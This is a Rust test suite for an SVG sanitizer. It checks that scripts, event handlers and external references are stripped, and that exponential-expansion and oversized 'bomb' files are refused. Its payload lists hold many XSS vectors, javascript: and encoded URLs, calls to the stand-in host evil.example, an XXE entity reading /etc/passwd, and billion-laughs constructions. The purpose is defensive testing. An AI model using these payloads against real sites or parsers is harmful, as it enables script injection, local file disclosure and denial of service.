//! Files that want to do something: what is left of each is read again, and held against the lists.

use std::fmt::Write as _;

use proptest::prelude::*;
use roxmltree::{Document, Node};

use super::allowed::{ATTRIBUTES, ELEMENTS, PROPERTIES};
use super::{LARGEST_FILE, MOST_DRAWN, build, clean, expansion};

const SVG: &str = "http://www.w3.org/2000/svg";

/// What is put into a drawing with one shape; each wants to run, to load or to lead somewhere.
const INSIDE: &[&str] = &[
    "<script>alert(1)</script>",
    "<script xlink:href=\"https://evil.example/x.js\"/>",
    "<SCRIPT>alert(1)</SCRIPT>",
    "<g><g><script type=\"text/ecmascript\"><![CDATA[alert(1)]]></script></g></g>",
    "<s:script xmlns:s=\"http://www.w3.org/2000/svg\">alert(1)</s:script>",
    "<script xmlns=\"http://www.w3.org/1999/xhtml\">alert(1)</script>",
    "<rect width=\"1\" height=\"1\" onclick=\"alert(1)\"/>",
    "<rect width=\"1\" height=\"1\" ONLOAD=\"alert(1)\"/>",
    "<g onload=\"alert(1)\" onmouseover='alert(1)' onbegin=\"alert(1)\"><path d=\"M0 0\"/></g>",
    "<g xmlns:x=\"http://www.w3.org/2001/xml-events\" x:handler=\"alert(1)\" x:event=\"load\"/>",
    "<handler xmlns:ev=\"http://www.w3.org/2001/xml-events\" ev:event=\"load\">alert(1)</handler>",
    "<foreignObject width=\"9\" height=\"9\"><body xmlns=\"http://www.w3.org/1999/xhtml\"><img src=\"x\" onerror=\"alert(1)\"/></body></foreignObject>",
    "<foreignObject><iframe xmlns=\"http://www.w3.org/1999/xhtml\" src=\"javascript:alert(1)\"/></foreignObject>",
    "<switch><foreignObject requiredExtensions=\"x\"><script>alert(1)</script></foreignObject><g><path d=\"M0 0\"/></g></switch>",
    "<iframe xmlns=\"http://www.w3.org/1999/xhtml\" src=\"//evil.example\"/>",
    "<h:link xmlns:h=\"http://www.w3.org/1999/xhtml\" rel=\"stylesheet\" href=\"//evil.example/x.css\"/>",
    "<h:meta xmlns:h=\"http://www.w3.org/1999/xhtml\" http-equiv=\"refresh\" content=\"0;url=//evil.example\"/>",
    "<h:base xmlns:h=\"http://www.w3.org/1999/xhtml\" href=\"//evil.example/\"/>",
    "<a href=\"javascript:alert(1)\"><text>here</text></a>",
    "<a xlink:href=\"jAvA&#x73;cript&#58;alert(1)\"><text>here</text></a>",
    "<a href=\"https://evil.example\" target=\"_blank\" ping=\"//evil.example\"><rect width=\"9\" height=\"9\"/></a>",
    "<a xlink:href=\"data:text/html,&lt;script&gt;alert(1)&lt;/script&gt;\"><path d=\"M0 0\"/></a>",
    "<image href=\"https://evil.example/x.png\" width=\"9\" height=\"9\"/>",
    "<image xlink:href=\"data:image/svg+xml;base64,PHN2Zy8+\" width=\"9\" height=\"9\"/>",
    "<image href=\"file:///etc/passwd\"/>",
    "<use href=\"https://evil.example/x.svg#a\"/>",
    "<use xlink:href=\"//evil.example/x.svg#a\"/>",
    "<use href=\"/api/facility/places?site=HQ#a\"/>",
    "<use href=\"data:image/svg+xml,&lt;svg id='x' onload='alert(1)'/&gt;#x\"/>",
    "<use href=\" #a\" xlink:href=\"javascript:alert(1)\"/>",
    "<feImage xlink:href=\"//evil.example\"/>",
    "<filter id=\"f\"><feImage href=\"//evil.example/x\"/></filter><rect filter=\"url(#f)\" width=\"9\" height=\"9\"/>",
    "<rect width=\"9\" height=\"9\" filter=\"url(//evil.example/x.svg#f)\"/>",
    "<rect width=\"9\" height=\"9\" fill=\"url(//evil.example/x.svg#f)\"/>",
    "<rect width=\"9\" height=\"9\" fill=\"url(&quot;https://evil.example/#f&quot;) red\"/>",
    "<rect width=\"9\" height=\"9\" fill=\"URL( 'x.svg#f' )\"/>",
    "<rect width=\"9\" height=\"9\" fill=\"url(#a) url(//evil.example)\"/>",
    "<rect width=\"9\" height=\"9\" fill=\"u\\72l(//evil.example)\"/>",
    "<rect width=\"9\" height=\"9\" clip-path=\"url(https://evil.example/#c)\" mask=\"url(//evil.example#m)\"/>",
    "<rect width=\"9\" height=\"9\" cursor=\"url(//evil.example/c.cur), auto\"/>",
    "<path d=\"M0 0\" marker-start=\"url(//evil.example#m)\" marker-end=\"url(#m)\"/>",
    "<rect width=\"9\" height=\"9\" style=\"fill:url(//evil.example#a);background:url(//evil.example)\"/>",
    "<rect width=\"9\" height=\"9\" style=\"fill:red;behavior:url(x.htc);-moz-binding:url(x.xml#y)\"/>",
    "<rect width=\"9\" height=\"9\" style=\"width:expression(alert(1));x:y;@import '//evil.example'\"/>",
    "<rect width=\"9\" height=\"9\" style=\"font-family:'a;b';src:url(//evil.example/f.woff)\"/>",
    "<style>@import url(//evil.example/x.css);</style>",
    "<style>@import '//evil.example/x.css'; rect{fill:red}</style><rect width=\"9\" height=\"9\"/>",
    "<style>@font-face{font-family:x;src:url(//evil.example/f.woff)} text{font-family:x}</style><text>a</text>",
    "<style>rect{fill:url(//evil.example#a);background-image:url(//evil.example)}</style><rect width=\"9\" height=\"9\"/>",
    "<style>*{fill:image-set('//evil.example' 1x)} /*</style><style>*/ rect{fill:url(x)}</style>",
    "<style>rect[x^=\"1\"]{fill:url(//evil.example/1)} </style><rect x=\"1\" width=\"9\" height=\"9\"/>",
    "<style><![CDATA[</style><script>alert(1)</script>]]></style>",
    "<style type=\"text/css\">rect{fill:\\75\\72\\6c(//evil.example)}</style><rect width=\"9\" height=\"9\"/>",
    "<animate attributeName=\"href\" to=\"javascript:alert(1)\"/>",
    "<a id=\"l\"><text>x</text><set attributeName=\"xlink:href\" to=\"javascript:alert(1)\"/></a>",
    "<rect width=\"9\" height=\"9\"><animate attributeName=\"onclick\" values=\"alert(1)\" begin=\"0s\" onend=\"alert(1)\"/></rect>",
    "<rect width=\"9\" height=\"9\"><animateTransform attributeName=\"transform\" type=\"rotate\" dur=\"1s\"/></rect>",
    "<rect width=\"9\" height=\"9\"><animateMotion><mpath href=\"//evil.example#p\"/></animateMotion><discard begin=\"1s\"/></rect>",
    "<text><textPath href=\"//evil.example#p\">x</textPath><tref xlink:href=\"//evil.example#t\"/></text>",
    "<text><tspan onclick=\"alert(1)\">&lt;script&gt;alert(1)&lt;/script&gt;</tspan></text>",
    "<text>]]&gt;&lt;/text>&lt;script>alert(1)&lt;/script></text>",
    "<title>&lt;script&gt;alert(1)&lt;/script&gt;</title><desc><script>alert(1)</script></desc>",
    "<metadata><rdf:RDF xmlns:rdf=\"http://www.w3.org/1999/02/22-rdf-syntax-ns#\" rdf:about=\"//evil.example\"/></metadata>",
    "<linearGradient id=\"g\" href=\"//evil.example#g\"/><rect fill=\"url(#g)\" width=\"9\" height=\"9\"/>",
    "<pattern id=\"p\" xlink:href=\"//evil.example#p\"><image href=\"//evil.example\"/></pattern><rect fill=\"url(#p)\" width=\"9\" height=\"9\"/>",
    "<color-profile xlink:href=\"//evil.example/p.icc\" name=\"x\"/><font-face-uri xlink:href=\"//evil.example\"/>",
    "<cursor xlink:href=\"//evil.example\"/><glyphRef xlink:href=\"//evil.example\"/><view id=\"v\" viewTarget=\"x\"/>",
    "<video xmlns=\"http://www.w3.org/1999/xhtml\" src=\"//evil.example\" autoplay=\"\"/><audio src=\"//evil.example\"/>",
    "<object data=\"//evil.example\"/><embed src=\"//evil.example\"/><canvas/><unknown href=\"//evil.example\"/>",
    "<g id=\"&quot;&gt;&lt;script&gt;alert(1)&lt;/script&gt;\" class=\"x\"/><use href=\"#&quot;&gt;&lt;script&gt;alert(1)&lt;/script&gt;\"/>",
    "<g id=\"d\" data-x=\"javascript:alert(1)\" aria-label=\"&lt;script&gt;\" xml:base=\"//evil.example/\" href=\"//evil.example\"/>",
    "<rect width=\"9\" height=\"9\" fill=\"red&#10;; } * { background: url(//evil.example)\"/>",
    "<rect width=\"1\" height=\"1\" xlink:actuate=\"onLoad\" xlink:show=\"embed\" xlink:type=\"simple\" xlink:href=\"//evil.example\"/>",
    "<?xml-stylesheet href=\"//evil.example/x.css\" type=\"text/css\"?><path d=\"M0 0\"/>",
    "<?php echo 1 ?><!-- --><!--><script>alert(1)</script>--><path d=\"M0 0\"/>",
    "<svg onload=\"alert(1)\" x=\"1\"><script>alert(1)</script><svg xmlns=\"x\"><script>alert(1)</script></svg></svg>",
    "<g transform=\"translate(1) url(//evil.example)\"><path d=\"M0 0\"/></g>",
    "<path d=\"M0 0 url(//evil.example)\"/><polygon points=\"0,0 javascript:alert(1)\"/>",
];

/// Whole files of the same mind; most are no files that are read at all.
const WHOLE: &[&str] = &[
    "<!DOCTYPE svg [<!ENTITY x SYSTEM \"file:///etc/passwd\">]><svg xmlns=\"http://www.w3.org/2000/svg\" viewBox=\"0 0 9 9\"><text>&x;</text></svg>",
    "<!DOCTYPE svg SYSTEM \"//evil.example/x.dtd\"><svg xmlns=\"http://www.w3.org/2000/svg\" viewBox=\"0 0 9 9\"><path d=\"M0 0\"/></svg>",
    "<?xml version=\"1.0\"?><?xml-stylesheet href=\"javascript:alert(1)\"?><svg xmlns=\"http://www.w3.org/2000/svg\" viewBox=\"0 0 9 9\" onload=\"alert(1)\"><path d=\"M0 0\"/></svg>",
    "<html><script>alert(1)</script></html>",
    "<svg viewBox=\"0 0 9 9\"><script>alert(1)</script><path d=\"M0 0\"/></svg>",
    "<svg xmlns=\"http://www.w3.org/1999/xhtml\" viewBox=\"0 0 9 9\"><path d=\"M0 0\"/></svg>",
    "<svg xmlns=\"http://www.w3.org/2000/svg\" viewBox=\"0 0 9 9\"><path d=\"M0 0\"/></svg><script>alert(1)</script>",
    "<svg xmlns=\"http://www.w3.org/2000/svg\" viewBox=\"0 0 9 9\" width=\"&lt;&quot;\" id=\"r\" style=\"fill:url(//e)\"><path d=\"M0 0\"/></svg>",
    "<svg xmlns=\"http://www.w3.org/2000/svg\" viewBox=\"0 0 9 9\"><text>&x;</text></svg>",
    "<svg:svg xmlns:svg=\"http://www.w3.org/2000/svg\" viewBox=\"0 0 9 9\"><svg:path d=\"M0 0\" svg:onclick=\"alert(1)\"/></svg:svg>",
    "<svg xmlns=\"http://www.w3.org/2000/svg\" viewBox=\"0 0 9 9\"><image href=\"//evil.example\"/></svg>",
    "{\"svg\": 1}",
    "",
    "<svg",
    "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
];

fn around(inside: &str) -> String {
    format!(
        "<svg xmlns=\"{SVG}\" xmlns:xlink=\"http://www.w3.org/1999/xlink\" viewBox=\"0 0 100 50\">\
         <rect id=\"a\" x=\"1\" y=\"1\" width=\"9\" height=\"9\"/>{inside}</svg>"
    )
}

/// What is wrong with a cleaned drawing, by what a parser makes of it.
fn breach(svg: &str) -> Option<String> {
    let document = match Document::parse(svg) {
        Ok(document) => document,
        Err(why) => return Some(why.to_string()),
    };
    if svg.contains("<?") || svg.contains("<!") {
        return Some("something else than elements".to_owned());
    }
    document.descendants().filter(Node::is_element).find_map(|node| of_element(&node))
}

fn of_element(node: &Node<'_, '_>) -> Option<String> {
    let name = node.tag_name();
    if name.namespace() != Some(SVG) || !ELEMENTS.contains(&name.name()) {
        return Some(format!("an element {name:?}"));
    }
    for attribute in node.attributes() {
        let (name, value) = (attribute.name(), attribute.value());
        let known = ATTRIBUTES.iter().chain(PROPERTIES).any(|(known, _)| *known == name);
        let is_space =
            name == "space" && attribute.namespace().is_some_and(|of| of.ends_with("namespace"));
        let is_part = name == "data-part" && ["wall", "door", "stairs", "lift"].contains(&value);
        if !(is_space || is_part || (attribute.namespace().is_none() && (known || name == "id"))) {
            return Some(format!("an attribute {name}"));
        }
        let own = |text: &str| {
            text.strip_prefix("#i").is_some_and(|n| n.bytes().all(|b| b.is_ascii_digit()))
        };
        let within = |text: &str| {
            let inside = text.split("url(").skip(1);
            inside.map(|part| part.split(')').next().unwrap_or_default()).all(own)
        };
        let fits = match name {
            "href" => own(value),
            "id" => own(&format!("#{value}")),
            "font-family" => !value.contains(['(', ';', '\\', ':', '@']),
            _ => {
                within(value)
                    && !value.contains([':', ';', '\\', '"', '\'', '@', '<', '>', '&', '{'])
            }
        };
        let calls = [
            "matrix",
            "translate",
            "scale",
            "rotate",
            "skewX",
            "skewY",
            "rgb",
            "rgba",
            "hsl",
            "hsla",
            "url",
        ];
        let called = value.split('(').rev().skip(1);
        let mut called = called.map(|part| part.rsplit(|c: char| !c.is_ascii_alphabetic()).next());
        if !fits || !called.all(|name| name.is_some_and(|name| calls.contains(&name))) {
            return Some(format!("{name}=\"{value}\""));
        }
    }
    None
}

#[test]
fn nothing_of_a_hostile_file_acts_or_leads_out_of_it() {
    assert!(INSIDE.len() + WHOLE.len() >= 50);
    for inside in INSIDE {
        // None of these is a reason to refuse a drawing: what acts is gone, what draws is kept.
        let cleaned =
            clean(around(inside).as_bytes()).unwrap_or_else(|why| panic!("{inside}: {why}"));
        assert_eq!(breach(&cleaned.svg), None, "{inside}\n{}", cleaned.svg);
        assert!(!cleaned.svg.contains("evil.example"), "{inside}\n{}", cleaned.svg);
        assert!(cleaned.svg.contains("width=\"9\" x=\"1\" y=\"1\"/>"), "{}", cleaned.svg);
        let again = clean(cleaned.svg.as_bytes()).unwrap();
        assert_eq!(again, cleaned, "{inside}");
    }
    let taken: Vec<_> = WHOLE.iter().filter_map(|file| clean(file.as_bytes()).ok()).collect();
    assert_eq!(taken.len(), 3);
    for cleaned in taken {
        assert_eq!(breach(&cleaned.svg), None, "{}", cleaned.svg);
    }
}

#[test]
fn the_test_itself_finds_what_should_not_be_there() {
    for inside in [
        "<script>1</script>",
        "<rect onclick=\"x\"/>",
        "<rect fill=\"url(//x)\"/>",
        "<rect fill=\"url(#a)\"/>",
        "<use href=\"x#i1\"/>",
        "<rect style=\"fill:red\"/>",
        "<rect fill=\"element(x)\"/>",
        "<rect id=\"a\"/>",
        "<!-- x -->",
    ] {
        let file = format!("<svg xmlns=\"{SVG}\">{inside}</svg>");
        assert!(breach(&file).is_some(), "{inside}");
    }
    assert_eq!(
        breach(&format!("<svg xmlns=\"{SVG}\"><rect id=\"i1\" fill=\"url(#i2) rgb(1)\"/></svg>")),
        None
    );
}

/// A file that would take long, or much memory, and what is said of it; nothing where it is taken apart.
type Bomb = (&'static str, String);

fn bombs() -> Vec<Bomb> {
    [multiplied(), endless_or_deep(), many_of_a_kind(), numbers_too_large(), taken_apart()].concat()
}

/// Each of few elements names the one before ten times.
fn multiplied() -> Vec<Bomb> {
    let mut copies = "<g id=\"c0\"><rect width=\"1\" height=\"1\"/></g>".to_owned();
    let mut hatches =
        "<pattern id=\"h0\" width=\"1\" height=\"1\"><path d=\"M0 0\"/></pattern>".to_owned();
    let mut clips = "<clipPath id=\"k0\"><path d=\"M0 0\"/></clipPath>".to_owned();
    for n in 1..40 {
        let copy = format!("<use href=\"#c{}\"/>", n - 1);
        write!(copies, "<g id=\"c{n}\">{}</g>", copy.repeat(10)).unwrap();
        let fill = format!("<rect fill=\"url(#h{})\" width=\"1\" height=\"1\"/>", n - 1);
        write!(
            hatches,
            "<pattern id=\"h{n}\" width=\"1\" height=\"1\">{}</pattern>",
            fill.repeat(10)
        )
        .unwrap();
        let clip = format!("<path clip-path=\"url(#k{})\" d=\"M0 0\"/>", n - 1);
        write!(clips, "<clipPath id=\"k{n}\">{}</clipPath>", clip.repeat(10)).unwrap();
    }
    let mut laughs = "<!DOCTYPE s [<!ENTITY l0 \"lol\">".to_owned();
    for n in 1..10 {
        write!(laughs, "<!ENTITY l{n} \"{}\">", format!("&l{};", n - 1).repeat(10)).unwrap();
    }
    let many: String = "<use href=\"#m\"/>".repeat(20_000);
    vec![
        (
            "document type",
            format!("{laughs}]><svg xmlns=\"{SVG}\" viewBox=\"0 0 9 9\"><text>&l9;</text></svg>"),
        ),
        ("with all copies", around(&format!("<defs>{copies}</defs><use href=\"#c39\"/>"))),
        ("pattern", around(&format!("<defs>{hatches}</defs><rect fill=\"url(#h39)\"/>"))),
        (
            "with all copies",
            around(&format!("<defs>{clips}</defs><rect clip-path=\"url(#k39)\"/>")),
        ),
        ("with all copies", around(&format!("<g id=\"m\">{}</g>{many}", "<path/>".repeat(1000)))),
    ]
}

fn endless_or_deep() -> Vec<Bomb> {
    let chain: String =
        (0..20_000).map(|n| format!("<g id=\"n{n}\"><use href=\"#n{}\"/></g>", n + 1)).collect();
    vec![
        ("draws itself", around("<g id=\"s\"><use href=\"#s\"/></g>")),
        (
            "draws itself",
            around("<g id=\"s\"><use href=\"#t\"/></g><g id=\"t\"><use href=\"#s\"/></g>"),
        ),
        ("draws itself", around("<pattern id=\"s\"><rect fill=\"url(#s)\"/></pattern>")),
        (
            "draws itself",
            around("<linearGradient id=\"s\" href=\"#t\"/><linearGradient id=\"t\" href=\"#s\"/>"),
        ),
        ("draws itself", around("<clipPath id=\"s\" clip-path=\"url(#s)\"/>")),
        ("deep", around(&chain)),
        ("deep", around(&format!("{}{}", "<g>".repeat(101), "</g>".repeat(101)))),
        ("deep", around(&format!("{}{}", "<g>".repeat(40_000), "</g>".repeat(40_000)))),
    ]
}

fn many_of_a_kind() -> Vec<Bomb> {
    let spaces: String = (0..20_000).map(|n| format!("<g xmlns:a{n}=\"x\">")).collect();
    let attributes: String = (0..50_000).map(|n| format!(" a{n}=\"\"")).collect();
    let ruled = "<path class=\"a\" d=\"\"/>".repeat(30_000);
    let properties: String =
        PROPERTIES.iter().map(|(name, _)| format!("{name}:{};", "a".repeat(190))).collect();
    vec![
        ("name spaces", around(&spaces)),
        ("attributes", around(&format!("<g{attributes}/>"))),
        ("more than 100000 elements", around(&"<g/>".repeat(110_000))),
        ("styles make", around(&format!("<style>.a{{{properties}}}</style>{ruled}"))),
        ("bytes", around(&" ".repeat(LARGEST_FILE))),
    ]
}

fn numbers_too_large() -> Vec<Bomb> {
    let long = format!(".a{{font-size:{}}}", "1".repeat(190));
    vec![
        ("too large a number", around("<rect width=\"1e308\" height=\"9\"/>")),
        ("too large a number", around("<path d=\"M0 0L99999999999 0\"/>")),
        ("too large a number", around("<g transform=\"scale(1e200)\"><path d=\"M0 0\"/></g>")),
        (
            "too large a number",
            around("<rect style=\"stroke-width:1e99\" width=\"1\" height=\"1\"/>"),
        ),
        ("too large a number", around(&format!("<style>{long}</style><path class=\"a\"/>"))),
        (
            "how large it is",
            format!("<svg xmlns=\"{SVG}\" viewBox=\"0 0 9999999 9\"><path d=\"M0 0\"/></svg>"),
        ),
        (
            "how large it is",
            format!("<svg xmlns=\"{SVG}\" viewBox=\"0 0 NaN 9\"><path d=\"M0 0\"/></svg>"),
        ),
        (
            "how large it is",
            format!("<svg xmlns=\"{SVG}\" width=\"100%\" height=\"9\"><path d=\"M0 0\"/></svg>"),
        ),
    ]
}

/// No bombs any more once they are read: the rules that matter are kept, and nothing is drawn often.
fn taken_apart() -> Vec<Bomb> {
    let selectors = format!("<style>{}{{fill:red;stroke:red}}</style>", "a,".repeat(200_000));
    let rules = format!("<style>{}</style>", ".a{fill:red}".repeat(50_000));
    vec![
        ("", around(&selectors)),
        ("", around(&format!("{rules}{}", "<path class=\"a a a\" d=\"\"/>".repeat(5_000)))),
        (
            "",
            around(&format!(
                "<filter id=\"f\">{}</filter><rect filter=\"url(#f)\"/>",
                "<feGaussianBlur stdDeviation=\"9999\"/>".repeat(9_000)
            )),
        ),
        (
            "",
            around(&format!("<mask id=\"m\">{}</mask>", "<rect mask=\"url(#m)\"/>".repeat(9_000))),
        ),
        (
            "",
            around(&format!(
                "<marker id=\"m\">{}</marker><path marker-mid=\"url(#m)\" d=\"{}\"/>",
                "<path/>".repeat(9_000),
                "M0 0".repeat(90_000)
            )),
        ),
    ]
}

#[test]
fn a_bomb_is_refused_by_its_name_or_taken_apart() {
    for (why, file) in bombs() {
        let start: String = file.chars().take(200).collect();
        match clean(file.as_bytes()) {
            Ok(cleaned) => {
                assert_eq!(why, "", "{start}");
                assert_eq!(breach(&cleaned.svg), None, "{start}");
            }
            Err(refusal) => {
                assert!(!why.is_empty() && refusal.to_string().contains(why), "{start}: {refusal}");
            }
        }
    }
}

#[test]
fn however_often_an_element_is_drawn_it_is_looked_at_once() {
    // Four levels of ten copies each, and thirty levels of one around them.
    let mut copies = "<g id=\"c0\"><rect width=\"1\" height=\"1\"/></g>".to_owned();
    for n in 1..35 {
        let times = if n <= 4 { 10 } else { 1 };
        let copy = format!("<use href=\"#c{}\"/>", n - 1).repeat(times);
        write!(copies, "<g id=\"c{n}\">{copy}</g>").unwrap();
    }
    let file = around(&format!("<defs>{copies}</defs><use href=\"#c34\"/>"));
    let elements = build::build(&Document::parse(&file).unwrap()).unwrap();
    let measured = expansion::measure(&elements).unwrap();
    assert!(measured.drawn > 20_000 && measured.drawn <= MOST_DRAWN, "{measured:?}");
    assert!(measured.looks <= elements.all.len(), "{measured:?} of {}", elements.all.len());
}

proptest! {
    #[test]
    fn whatever_is_put_together_only_draws(parts in prop::collection::vec(0..INSIDE.len(), 0..6), cut in 0..400_usize) {
        let inside: String = parts.iter().map(|part| INSIDE[*part]).collect();
        let file = around(&inside);
        if let Ok(cleaned) = clean(file.as_bytes()) {
            prop_assert_eq!(breach(&cleaned.svg), None);
        }
        let broken: String = file.chars().enumerate().filter(|(at, _)| *at != cut).map(|(_, c)| c).collect();
        if let Ok(cleaned) = clean(broken.as_bytes()) {
            prop_assert_eq!(breach(&cleaned.svg), None);
        }
    }

    #[test]
    fn any_value_that_passes_only_draws(value in "[#-~ a-zA-Z0-9(),.:;/\\\\%{}@-]{0,60}", which in 0..60_usize) {
        let names: Vec<&str> = ATTRIBUTES.iter().chain(PROPERTIES).map(|(name, _)| *name).collect();
        let name = names[which % names.len()];
        let value = value.replace('&', "&amp;").replace('<', "&lt;").replace('"', "&quot;");
        for inside in [
            format!("<use {name}=\"{value}\"/>"),
            format!("<rect style=\"{name}:{value}\"/>"),
            format!("<style>rect{{{name}:{value}}}</style><rect/>"),
        ] {
            if let Ok(cleaned) = clean(around(&inside).as_bytes()) {
                prop_assert_eq!(breach(&cleaned.svg), None, "{}", cleaned.svg);
            }
        }
    }
}
